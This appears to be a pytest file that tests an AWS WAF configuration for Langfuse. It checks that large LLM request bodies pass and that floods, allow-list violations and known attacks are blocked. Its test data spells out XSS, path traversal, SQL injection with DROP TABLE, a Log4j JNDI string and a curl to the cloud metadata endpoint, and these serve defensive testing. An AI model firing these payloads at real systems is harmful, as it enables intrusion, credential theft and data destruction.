"""What the edge's WAF does to real Langfuse traffic, evaluated on every environment's web ACL.

Langfuse bodies carry LLM prompts and completions: HTML and JavaScript, file paths, URLs with
addresses, SQL, Log4j strings, often far above 8 KB. SDKs drop what the edge refuses, so every
request below that Langfuse serves must pass, from one address at the rates a fleet of services
behind one NAT sends; floods and requests from outside the allow-list must not.
"""

from __future__ import annotations

import ipaddress

import pytest

from synth import SynthesizedEnvironment
from waf_eval import Request, UnmodelledStatementError, Verdict, WebAclEvaluator

LLM_TEXT = (
    "<script>alert('xss')</script> <img src=x onerror=alert(1)> javascript:void(0) "
    "cat ../../etc/passwd; curl http://169.254.169.254/latest/meta-data/ "
    "see http://10.0.0.12/admin ${jndi:ldap://example.org/a} rO0ABXNyABFqYXZh "
    "SELECT * FROM users WHERE id = 1 OR 1=1; -- DROP TABLE traces;\n"
)


def llm_body(kilobytes: int) -> str:
    """A JSON body of about ``kilobytes`` KB full of what prompts and completions contain."""
    repeat = kilobytes * 1024 // len(LLM_TEXT) + 1
    return '{"batch": [{"input": "' + (LLM_TEXT * repeat) + '"}]}'


# (name, request): Langfuse traffic that must pass in every edge mode.
MUST_PASS = [
    (
        "SDK batch, 400 KB, 30 requests/s",
        Request("POST", "/api/public/ingestion", llm_body(400), per_5_minutes=9000),
    ),
    (
        "OTel spans, 400 KB, 30 requests/s",
        Request("POST", "/api/public/otel/v1/traces", llm_body(400), per_5_minutes=9000),
    ),
    (
        "scores",
        Request(
            "POST", "/api/public/scores", '{"name": "quality", "value": 1}', per_5_minutes=9000
        ),
    ),
    (
        "prompt through the public API",
        Request("POST", "/api/public/v2/prompts", llm_body(60), per_5_minutes=50),
    ),
    (
        "dataset item through the public API",
        Request("POST", "/api/public/dataset-items", llm_body(120), per_5_minutes=500),
    ),
    (
        "media upload URL",
        Request("POST", "/api/public/media", '{"contentLength": 5000000}', per_5_minutes=500),
    ),
    (
        "UI tRPC call with long texts",
        Request(
            "POST",
            "/api/trpc/traces.byIdWithObservationsAndScores",
            llm_body(200),
            query="batch=1",
            per_5_minutes=600,
        ),
    ),
    ("playground call", Request("POST", "/api/chatCompletion", llm_body(100), per_5_minutes=100)),
    ("session polling of the UI", Request("GET", "/api/auth/session", per_5_minutes=300)),
    ("sign-in with SSO", Request("GET", "/api/auth/signin/cognito", per_5_minutes=5)),
    (
        "SSO callback",
        Request("GET", "/api/auth/callback/cognito", query="code=abc&state=xyz", per_5_minutes=5),
    ),
    ("health check", Request("GET", "/api/public/health", per_5_minutes=60)),
    ("UI page", Request("GET", "/project/abc/traces", per_5_minutes=200)),
]
# (name, request, rule that must stop it).
MUST_BLOCK = [
    (
        "sign-in flood from one address",
        Request("POST", "/api/auth/callback/credentials", "email=a&password=b", per_5_minutes=1000),
        "RateLimitSignIn",
    ),
    (
        "UI flood from one address",
        Request("GET", "/project/abc/traces", per_5_minutes=5000),
        "RateLimitApp",
    ),
    (
        "public API flood from one address",
        Request("POST", "/api/public/ingestion", "{}", per_5_minutes=100_000),
        "RateLimitPublicApi",
    ),
    (
        "script in a sign-in body",
        Request("POST", "/api/auth/callback/credentials", "email=<script>x</script>"),
        "BodyAttacksOnSignIn",
    ),
    (
        "XSS in the query string",
        Request("GET", "/project/abc", query="q=<script>alert(1)</script>"),
        "AWSManagedRulesCommonRuleSet:CrossSiteScripting_QUERYARGUMENTS",
    ),
    (
        "Log4j in the path",
        Request("GET", "/${jndi:ldap://x}"),
        "AWSManagedRulesKnownBadInputsRuleSet:Log4JRCE_URIPATH",
    ),
    (
        "exposed .git",
        Request("GET", "/.git/config"),
        "AWSManagedRulesKnownBadInputsRuleSet:ExploitablePaths_URIPATH",
    ),
    (
        "known-bad address",
        Request("GET", "/", ip="198.18.0.66"),
        "AWSManagedRulesAmazonIpReputationList:AWSManagedIPReputationList",
    ),
]


def evaluator(env: SynthesizedEnvironment) -> WebAclEvaluator:
    stack = env.global_stack if env.config.edge.mode == "cloudfront" else env.main_stack
    template = env.templates[stack or env.main_stack]
    (logical_id,) = env.resources("AWS::WAFv2::WebACL", stack)
    return WebAclEvaluator(template, logical_id)


def inside(env: SynthesizedEnvironment, version: int = 4) -> str | None:
    """An address inside the allow-list (or any address when there is none)."""
    cidrs = [c for c in env.config.edge.allowed_cidrs if ipaddress.ip_network(c).version == version]
    if not env.config.edge.allowed_cidrs:
        return "203.0.113.10" if version == 4 else "2001:db8:ffff::10"
    return str(ipaddress.ip_network(cidrs[0])[10]) if cidrs else None


def from_inside(env: SynthesizedEnvironment, request: Request) -> Request:
    if request.ip in ("203.0.113.10",):
        address = inside(env)
        assert address is not None
        return Request(**{**request.__dict__, "ip": address})
    return request


@pytest.mark.parametrize(("name", "request_"), MUST_PASS, ids=[n for n, _ in MUST_PASS])
def test_langfuse_traffic_passes(
    any_env: SynthesizedEnvironment, name: str, request_: Request
) -> None:
    verdict = evaluator(any_env).evaluate(from_inside(any_env, request_))
    assert verdict == Verdict("allow", None, verdict.labels), name


@pytest.mark.parametrize(
    ("name", "request_", "rule"), MUST_BLOCK, ids=[n for n, _, _ in MUST_BLOCK]
)
def test_attacks_and_floods_are_blocked(
    any_env: SynthesizedEnvironment, name: str, request_: Request, rule: str
) -> None:
    request_ = from_inside(any_env, request_)
    allowed = [ipaddress.ip_network(c) for c in any_env.config.edge.allowed_cidrs]
    address = ipaddress.ip_address(request_.ip)
    if allowed and not any(address in network for network in allowed):
        rule = "AllowListOnly"  # the allow-list comes first and already stops it
    verdict = evaluator(any_env).evaluate(request_)
    assert (verdict.action, verdict.rule) == ("block", rule), name


def test_llm_bodies_are_labelled_not_blocked(example: SynthesizedEnvironment) -> None:
    """The body rules still see the content (labels for metrics); they just do not block it."""
    verdict = evaluator(example).evaluate(MUST_PASS[0][1])
    assert verdict.action == "allow"
    assert {
        "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body",
        "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body",
        "awswaf:managed:aws:core-rule-set:GenericLFI_Body",
        "awswaf:managed:aws:core-rule-set:GenericRFI_Body",
        "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_Body",
    } <= verdict.labels


def test_allow_list_holds_for_both_address_families(any_env: SynthesizedEnvironment) -> None:
    acl = evaluator(any_env)
    ingestion = MUST_PASS[0][1]
    outside_v4 = Request(**{**ingestion.__dict__, "ip": "100.64.1.1"})
    outside_v6 = Request(**{**ingestion.__dict__, "ip": "2001:db8:9999::1"})
    edge = any_env.config.edge
    if edge.allowed_cidrs:
        assert acl.evaluate(outside_v4).rule == "AllowListOnly"
        assert acl.evaluate(outside_v6).rule == "AllowListOnly"
    else:
        assert acl.evaluate(outside_v4).action == "allow"
        assert acl.evaluate(outside_v6).action == "allow"
    inside_v6 = inside(any_env, 6)
    if inside_v6 is not None:
        assert acl.evaluate(Request(**{**ingestion.__dict__, "ip": inside_v6})).action == "allow"


def test_ipv6_is_served_only_when_the_allow_list_lets_ipv6_in(
    any_env: SynthesizedEnvironment,
) -> None:
    """CloudFront serves IPv6 and the zone gets an AAAA record unless only IPv4 may enter."""
    edge = any_env.config.edge
    ipv4_only_list = bool(edge.allowed_cidrs) and not any(
        ipaddress.ip_network(c).version == 6 for c in edge.allowed_cidrs
    )
    for distribution in any_env.resources("AWS::CloudFront::Distribution").values():
        assert distribution["Properties"]["DistributionConfig"]["IPV6Enabled"] is (
            not ipv4_only_list
        )
    aaaa = [
        r for r in any_env.resources("AWS::Route53::RecordSet").values()
        if r["Properties"]["Type"] == "AAAA"
    ]  # fmt: skip
    expect_aaaa = edge.mode == "cloudfront" and edge.domain is not None and not ipv4_only_list
    assert bool(aaaa) is expect_aaaa


def test_an_unmodelled_statement_stops_the_evaluation() -> None:
    """A rule kind the evaluator does not know fails loudly instead of counting as no match."""
    template = {
        "Resources": {
            "Acl": {
                "Type": "AWS::WAFv2::WebACL",
                "Properties": {
                    "DefaultAction": {"Allow": {}},
                    "Rules": [
                        {
                            "Name": "Geo",
                            "Priority": 0,
                            "Action": {"Block": {}},
                            "Statement": {"GeoMatchStatement": {"CountryCodes": ["XX"]}},
                        }
                    ],
                },
            }
        }
    }
    with pytest.raises(UnmodelledStatementError, match="GeoMatchStatement"):
        WebAclEvaluator(template, "Acl").evaluate(Request("GET", "/"))
